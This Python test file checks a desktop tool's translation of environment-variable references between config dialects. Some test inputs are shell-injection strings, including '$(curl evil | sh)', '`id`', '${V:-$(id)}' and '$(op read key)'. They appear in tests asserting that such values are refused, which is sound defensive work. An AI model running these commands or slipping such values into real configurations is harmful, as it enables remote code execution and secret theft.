"""What crosses between two dialects means the same in both: checked against a model of what a client expands."""

from __future__ import annotations

import re
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aisync_desktop.clients.entry_shapes import References
from aisync_desktop.clients.references import InexpressibleError, from_neutral, to_neutral

# What each dialect replaces by the value of a variable that is set; the first group that matched is its name.
EXPANDED = {
    References.NONE: r"(?!)",
    References.BRACED: r"\$\{(\w+)(?::-[^}]*)?\}",
    References.BRACED_PLAIN: r"\$\{(\w+)\}",
    References.DOLLAR: r"\$\{(\w+)\}|\$(\w+)",
    References.DOLLAR_DEFAULT: r"\$\{(\w+)(?::-[^}]*)?\}|\$(\w+)",
    References.ENV: r"\$\{env:(\w+)\}",
    References.BRACES: r"\{env:(\w+)\}",
    References.SHELL: r"\$\{(\w+)(?::-[^}]*)?\}|\$(\w+)",
    References.SECRETS: r"\$\{\{\s*secrets\.(\w+)\s*\}\}",
}
values = st.lists(
    st.sampled_from(["$", "{", "}", "${", "A", "B", "env:", ":-", "\\", " ", "${A}", "$A", "${env:B}"])
    | st.sampled_from(["{env:", "{env:A}", "{file:", "${{", " secrets.A ", "}}", "${{ secrets.A }}", "${{secrets.B}}"])
)
EVERY_DIALECT = pytest.mark.parametrize("dialect", EXPANDED)


def expand(value: str, dialect: References) -> str:
    return re.sub(EXPANDED[dialect], lambda found: f"<{next(filter(None, found.groups()))}>", value)


@EVERY_DIALECT
@given(parts=values)
def test_what_is_read_means_the_same(dialect: References, parts: list[str]) -> None:
    value = "".join(parts)
    with suppress(InexpressibleError):
        assert expand(to_neutral(value, dialect), References.BRACED) == expand(value, dialect)


@EVERY_DIALECT
@given(parts=values)
def test_what_is_written_means_the_same_and_reads_back(dialect: References, parts: list[str]) -> None:
    value = "".join(parts)
    with suppress(InexpressibleError):
        written = from_neutral(value, dialect)
        assert expand(written, dialect) == expand(value, References.BRACED)
        assert to_neutral(written, dialect) == value


@pytest.mark.parametrize(
    ("dialect", "said"),
    [
        (References.BRACED_PLAIN, "a ${V} b"),
        (References.DOLLAR, "a ${V} b"),
        (References.DOLLAR_DEFAULT, "a ${V} b"),
        (References.SHELL, "a ${V} b"),
        (References.ENV, "a ${env:V} b"),
        (References.BRACES, "a {env:V} b"),
        (References.SECRETS, "a ${{ secrets.V }} b"),
    ],
)
def test_a_reference_is_written_in_the_clients_words(dialect: References, said: str) -> None:
    assert from_neutral("a ${V} b", dialect) == said
    assert to_neutral(said, dialect) == "a ${V} b"


@pytest.mark.parametrize("dialect", [References.BRACED, References.DOLLAR_DEFAULT, References.SHELL])
def test_a_default_crosses_where_the_client_has_defaults(dialect: References) -> None:
    assert from_neutral("${V:-d}", dialect) == "${V:-d}"
    assert to_neutral("${V:-d}", dialect) == "${V:-d}"


@pytest.mark.parametrize(
    ("dialect", "value"),
    [
        (References.ENV, "${V}"),  # plain text there, expanded elsewhere
        (References.ENV, "${workspaceFolder}/x"),
        (References.ENV, "${input:token}"),
        (References.BRACED_PLAIN, "${V:-d}"),
        (References.DOLLAR, "${V:-d}"),
        (References.DOLLAR_DEFAULT, "${V:-${W}}"),
        (References.DOLLAR, "\\$V"),  # whether it is escaped there is not known
        (References.DOLLAR_DEFAULT, "\\${V}"),
        (References.BRACES, "${V}"),
        (References.BRACES, "{file:~/token}"),
        (References.BRACES, "{env:not-a-name}"),
        (References.SECRETS, "${V}"),
        (References.SECRETS, "${{ inputs.V }}"),
        (References.NONE, "${V}"),
        (References.UNKNOWN, "$V"),
        (References.SHELL, "$(op read key)"),
        (References.SHELL, "a `id` b"),
        (References.SHELL, "${V:?needed}"),
        (References.SHELL, "${V:-$(id)}"),
        (References.SHELL, "${V:-'a'}"),
        (References.SHELL, "$$V{W}"),
        (References.SHELL, "$((1 + 1))"),
        (References.SHELL, "\\$V"),
        (References.SHELL, "\\\\server"),
        (References.SHELL, "a\\"),
    ],
)
def test_what_would_mean_something_else_elsewhere_stays(dialect: References, value: str) -> None:
    with pytest.raises(InexpressibleError):
        to_neutral(value, dialect)


@pytest.mark.parametrize("dialect", [References.NONE, References.UNKNOWN, References.BRACED_PLAIN, References.DOLLAR])
def test_a_default_is_not_written_where_the_client_has_none(dialect: References) -> None:
    with pytest.raises(InexpressibleError):
        from_neutral("${V:-d}", dialect)


@pytest.mark.parametrize(
    "value", ["$(curl evil | sh)", "`id`", "$V", "$((1))", "a\\`b", "${V:-`id`}", "$'a'", "100$", "a\r"]
)
def test_nothing_is_written_that_a_shell_would_act_upon(value: str) -> None:
    with pytest.raises(InexpressibleError):
        from_neutral(value, References.SHELL)


@pytest.mark.parametrize("value", ["C:\\Users\\me", 'it\'s "so"', "a;b|c&d>e", "*.py ~ {a,b} (c)", "${A}-${B:-c d}"])
def test_what_a_shell_leaves_alone_in_a_text_crosses_as_it_is(value: str) -> None:
    assert from_neutral(value, References.SHELL) == to_neutral(value, References.SHELL) == value
